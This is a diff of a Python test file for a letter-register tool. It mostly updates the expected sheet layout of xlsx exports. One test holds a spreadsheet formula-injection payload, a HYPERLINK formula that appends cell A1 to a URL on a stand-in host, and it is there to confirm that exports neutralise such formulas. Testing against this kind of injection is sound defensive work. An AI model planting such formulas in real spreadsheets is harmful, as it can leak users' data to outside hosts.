@@ -274,9 +274,9 @@ def test_register_exports(ws, cli, tmp_path):
     assert rows[1][4] == f"7 Oktober 2026, {HEADER['Nomor']}"
     cli("register", "--xlsx", str(tmp_path / "agenda.xlsx"))
     book = openpyxl.load_workbook(tmp_path / "agenda.xlsx")
-    assert book.sheetnames == ["Agenda Masuk", "Agenda Keluar"]
-    assert book["Agenda Masuk"]["D3"].value == HEADER["Dari"]
-    assert book["Agenda Keluar"]["B2"].value == "Nomor Surat"
+    assert book.sheetnames[:2] == ["Agenda Masuk", "Agenda Keluar"] and len(book.sheetnames) == 6
+    assert book["Agenda Masuk"]["D5"].value == HEADER["Dari"]
+    assert book["Agenda Keluar"]["B4"].value == "Nomor Surat"
 
 
 def test_register_csv_needs_book(ws, cli, tmp_path):
@@ -386,9 +386,9 @@ def test_exports_never_carry_formulas_from_data(ws, cli, tmp_path):
         row = list(csv.reader(handle, delimiter=";"))[1]
     assert row[3] == "'+62 ULP" and row[5] == '\'=HYPERLINK("http://x/"&A1,"klik")'
     sheet = openpyxl.load_workbook(tmp_path / "m.xlsx")["Agenda Masuk"]
-    hal = sheet.cell(row=3, column=6)
+    hal = sheet.cell(row=5, column=6)
     assert hal.value == '=HYPERLINK("http://x/"&A1,"klik")' and hal.data_type == "s"
-    assert sheet.cell(row=3, column=4).data_type == "s"
+    assert sheet.cell(row=5, column=4).data_type == "s"
 
 
 @pytest.mark.parametrize("target", ["archive/register.sqlite3", "archive/buku.xlsx", "inbox/buku.csv",
